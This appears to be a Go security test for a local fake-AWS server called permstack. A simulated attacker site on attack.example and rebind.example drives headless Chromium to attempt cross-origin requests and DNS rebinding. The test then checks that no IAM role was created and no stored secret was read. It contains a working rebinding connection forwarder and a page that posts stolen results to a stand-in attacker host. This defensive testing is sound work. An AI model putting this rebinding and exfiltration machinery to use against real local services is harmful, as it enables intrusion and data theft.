package standalone_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/iam"
	"github.com/aws/aws-sdk-go-v2/service/s3"

	"permstack/internal/fakeaws/standalone"
)

const (
	attackedAccount = "123456789012"
	attackedSecret  = "what the page must not read"
)

// attacker is a web server of somebody whose page a user of permstack local opens.
type attacker struct {
	*httptest.Server
	aws     string // host and port of permstack local
	key     string
	rebound atomic.Bool // the page's own name now leads to permstack local
	results chan map[string]string
}

// startAttacker serves the pages: attack.example attacks by the loopback names, and rebind.example by its own name,
// which after the page was loaded leads to permstack local (DNS rebinding): every connection is then forwarded there.
func startAttacker(t *testing.T, aws, key string) *attacker {
	t.Helper()
	script, err := os.ReadFile("testdata/attack.js")
	if err != nil {
		t.Fatal(err)
	}
	a := &attacker{aws: aws, key: key, results: make(chan map[string]string, 4)}
	page := func(w http.ResponseWriter, run string) {
		w.Header().Set("Content-Type", "text/html")
		w.Header().Set("Connection", "close") // the next request opens a connection, which is forwarded
		settings := fmt.Sprintf("const KEY=%q;\n", a.key)
		fmt.Fprintf(w, "<!doctype html><body><script>%s%s\n(async()=>{%s})()</script>", settings, script, run)
	}
	const report = `await fetch("http://%s/report",{method:"POST",mode:"no-cors",body:JSON.stringify(results)})`
	mux := http.NewServeMux()
	mux.HandleFunc("/attack", func(w http.ResponseWriter, r *http.Request) {
		_, port, _ := net.SplitHostPort(a.aws)
		var run strings.Builder
		for label, host := range map[string]string{"ip": a.aws, "name": "localhost:" + port, "below": "a.localhost:" + port} {
			fmt.Fprintf(&run, "await attack(%q,%q);", label, host)
		}
		page(w, run.String()+fmt.Sprintf(report, r.Host))
	})
	mux.HandleFunc("/rebind", func(w http.ResponseWriter, r *http.Request) {
		_, port, _ := net.SplitHostPort(r.Host)
		page(w, fmt.Sprintf("await fetch('/now');await attack('rebound',%q);", r.Host)+
			fmt.Sprintf(report, "attack.example:"+port))
	})
	mux.HandleFunc("/now", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Connection", "close")
		a.rebound.Store(true)
	})
	mux.HandleFunc("/redirect", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusTemporaryRedirect)
	})
	mux.HandleFunc("/report", func(_ http.ResponseWriter, r *http.Request) {
		var results map[string]string
		if json.NewDecoder(r.Body).Decode(&results) == nil {
			a.results <- results
		}
	})
	a.Server = httptest.NewUnstartedServer(mux)
	listener := &rebindingListener{a.Listener, a, make(chan net.Conn, 64)}
	a.Listener = listener
	go listener.run()
	a.Start()
	t.Cleanup(a.Close)
	return a
}

// rebindingListener forwards connections to permstack local once the name was rebound, but for those that report.
// Chromium opens connections in advance, which send nothing for a while.
type rebindingListener struct {
	net.Listener
	a       *attacker
	accepts chan net.Conn
}

func (l *rebindingListener) run() {
	for {
		c, err := l.Listener.Accept()
		if err != nil {
			close(l.accepts)
			return
		}
		go func() {
			first := make([]byte, 4096)
			n, err := c.Read(first)
			if err != nil {
				c.Close()
				return
			}
			sent := &startedConn{c, first[:n]}
			if l.a.rebound.Load() && strings.Contains(string(first[:n]), "Host: rebind.example") {
				forward(sent, l.a.aws)
				return
			}
			l.accepts <- sent
		}()
	}
}

func (l *rebindingListener) Accept() (net.Conn, error) {
	c, ok := <-l.accepts
	if !ok {
		return nil, net.ErrClosed
	}
	return c, nil
}

// startedConn is a connection of which the first bytes were read.
type startedConn struct {
	net.Conn
	first []byte
}

func (c *startedConn) Read(b []byte) (int, error) {
	if len(c.first) > 0 {
		n := copy(b, c.first)
		c.first = c.first[n:]
		return n, nil
	}
	return c.Conn.Read(b)
}

func forward(c net.Conn, to string) {
	defer c.Close()
	target, err := net.Dial("tcp", to)
	if err != nil {
		return
	}
	defer target.Close()
	go func() { _, _ = io.Copy(target, c) }()
	_, _ = io.Copy(c, target)
}

// browse opens a page in headless Chromium, for which every name below example leads to this machine, and returns
// what the page reports.
func browse(t *testing.T, program string, a *attacker, page string) map[string]string {
	t.Helper()
	_, port, _ := net.SplitHostPort(a.Listener.Addr().String())
	profile, err := os.MkdirTemp("", "permstack-chromium-")
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(t.Context(), 10*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, program, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
		"--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync",
		"--host-resolver-rules=MAP *.example 127.0.0.1", "--remote-debugging-port=0", "--user-data-dir="+profile,
		strings.Replace(page, ":PORT", ":"+port, 1))
	if err := cmd.Start(); err != nil {
		t.Skipf("skipped: Chromium does not start: %v", err)
	}
	defer func() {
		_ = cmd.Process.Kill()
		_ = cmd.Wait()
		_ = os.RemoveAll(profile)
	}()
	select {
	case results := <-a.results:
		return results
	case <-ctx.Done():
		t.Fatalf("the page %s does not report", page)
		return nil
	}
}

// TestWebPagesReachNothing attacks permstack local from pages in headless Chromium: fetch, forms, images, scripts,
// frames, beacons, redirects, WebSocket and EventSource, by every loopback name and by the page's own name after DNS
// rebinding. Nothing may change, and nothing may be readable. The same requests by a client that is no browser work.
func TestWebPagesReachNothing(t *testing.T) {
	program := os.Getenv("PERMSTACK_CHROMIUM")
	if program == "" {
		t.Skip("skipped: PERMSTACK_CHROMIUM is not set")
	}
	s, err := standalone.Start("127.0.0.1:0", standalone.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = s.Close() })
	cfg := s.Config(attackedAccount, "us-east-1")
	keys, err := cfg.Credentials.Retrieve(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	objects := s3.NewFromConfig(cfg, func(o *s3.Options) { o.UsePathStyle = true })
	if _, err := objects.CreateBucket(t.Context(), &s3.CreateBucketInput{Bucket: aws.String("secrets")}); err != nil {
		t.Fatal(err)
	}
	if _, err := objects.PutObject(t.Context(), &s3.PutObjectInput{
		Bucket: aws.String("secrets"), Key: aws.String("secret.txt"), Body: strings.NewReader(attackedSecret),
	}); err != nil {
		t.Fatal(err)
	}
	host := strings.TrimPrefix(s.Endpoint, "http://")
	control(t, host, keys.AccessKeyID)

	a := startAttacker(t, host, keys.AccessKeyID)
	for _, c := range []struct{ name, page, first string }{
		{"loopback names", "http://attack.example:PORT/attack", "ip-fetch"},
		{"rebinding", "http://rebind.example:PORT/rebind", "rebound-fetch"},
	} {
		t.Run(c.name, func(t *testing.T) {
			results := browse(t, program, a, c.page)
			if _, ok := results[c.first]; !ok {
				t.Errorf("got results of another page: %v", results)
			}
			if len(results) < 20 {
				t.Errorf("got %d results, want at least 20: %v", len(results), results)
			}
			for attack, text := range results {
				if text != "" && !strings.HasPrefix(text, "permstack local: ") {
					t.Errorf("%s: the page reads %q", attack, text)
				}
			}
		})
	}
	requireUnchanged(t, iam.NewFromConfig(cfg), objects)
}

// control makes two of the page's requests as a client does that is no browser: they work.
func control(t *testing.T, host, key string) {
	t.Helper()
	form := url.Values{"Action": {"CreateRole"}, "Version": {"2010-05-08"}, "RoleName": {"Control"},
		"AssumeRolePolicyDocument": {`{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"Service":` +
			`"ec2.amazonaws.com"},"Action":"sts:AssumeRole"}]}`}}
	post, err := http.NewRequestWithContext(t.Context(), "POST", "http://"+host+"/", strings.NewReader(form.Encode()))
	if err != nil {
		t.Fatal(err)
	}
	post.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	post.Header.Set("Authorization", "AWS4-HMAC-SHA256 Credential="+key+
		"/20260101/us-east-1/iam/aws4_request, SignedHeaders=host, Signature=0")
	get, err := http.NewRequestWithContext(t.Context(), "GET", "http://"+host+"/secrets/secret.txt?X-Amz-Credential="+
		url.QueryEscape(key+"/20260101/us-east-1/s3/aws4_request"), nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range []*http.Request{post, get} {
		response, err := http.DefaultClient.Do(r)
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(response.Body)
		response.Body.Close()
		if err != nil || response.StatusCode != http.StatusOK {
			t.Fatalf("%s %s by a client: %s: %s (%v)", r.Method, r.URL, response.Status, b, err)
		}
	}
}

// requireUnchanged requires that there is no role but that of control, and that the secret is as it was.
func requireUnchanged(t *testing.T, roles *iam.Client, objects *s3.Client) {
	t.Helper()
	list, err := roles.ListRoles(t.Context(), &iam.ListRolesInput{})
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range list.Roles {
		if *r.RoleName != "Control" {
			t.Errorf("a page created the role %s", *r.RoleName)
		}
	}
	object, err := objects.GetObject(t.Context(), &s3.GetObjectInput{
		Bucket: aws.String("secrets"), Key: aws.String("secret.txt"),
	})
	if err != nil {
		t.Fatal(err)
	}
	defer object.Body.Close()
	if b, err := io.ReadAll(object.Body); err != nil || string(b) != attackedSecret {
		t.Errorf("the object is %q, %v", b, err)
	}
}
